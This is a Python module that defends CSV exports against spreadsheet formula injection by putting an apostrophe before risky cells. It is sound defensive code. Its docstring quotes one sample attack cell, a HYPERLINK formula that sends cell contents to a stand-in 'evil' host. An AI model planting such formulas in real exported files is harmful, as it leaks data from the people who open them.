"""The guard against formulas in tables that people open in a spreadsheet.

The one place that knows what begins a formula.

A cell ``=HYPERLINK("http://evil/?"&A1)`` of a downloaded CSV runs in the reader's spreadsheet
(OWASP, «CSV Injection»; CWE-1236). Our cells hold what anybody may have written into an archived
document. An apostrophe before such a text makes every spreadsheet take it as text. XLSX needs no
apostrophe: there a cell says by itself that it is text (``write_string``).
"""

import csv
import io
import re
import unicodedata
from collections.abc import Iterable

FORMULA_STARTS = frozenset("=+-@＝＋－＠")
"""What begins a formula; Japanese Excel takes the full-width forms for the others."""
_OWN_CELL = frozenset("\t\r\n")
"""These may end a cell in a careless import, so that what follows them begins one of its own."""
_NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def begins_formula(text: str) -> bool:
    """Might a spreadsheet take this text for a formula?

    White space, control and invisible characters before a sign are skipped, as importing programs
    drop them: ``" =1"``, ``"\\n=1"`` and ``"\\ufeff=1"`` are formulas like ``"=1"``. A plain
    negative number (``-1.5``) is none.
    """
    if _NEGATIVE_NUMBER.fullmatch(text):
        return False
    for character in text:
        if character in FORMULA_STARTS or character in _OWN_CELL:
            return True
        if not (character.isspace() or unicodedata.category(character) in ("Cc", "Cf")):
            return False
    return False


def defused(text: str) -> str:
    """A text that no spreadsheet takes for a formula.

    An apostrophe goes before it where it might be one.
    """
    return f"'{text}" if begins_formula(text) else text


def csv_cells(values: Iterable[object]) -> list[str]:
    """The cells of a line of CSV.

    None is an empty cell, a number stays a number (``-1`` too), a text is defused.
    """
    return [_cell(value) for value in values]


def csv_text(columns: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """A whole file that spreadsheets open as UTF-8 (it begins with a BOM) and in which no cell is
    a formula.
    """
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    writer.writerows(csv_cells(row) for row in rows)
    return "\ufeff" + out.getvalue()


def _cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float):
        return str(value)
    return defused(str(value))
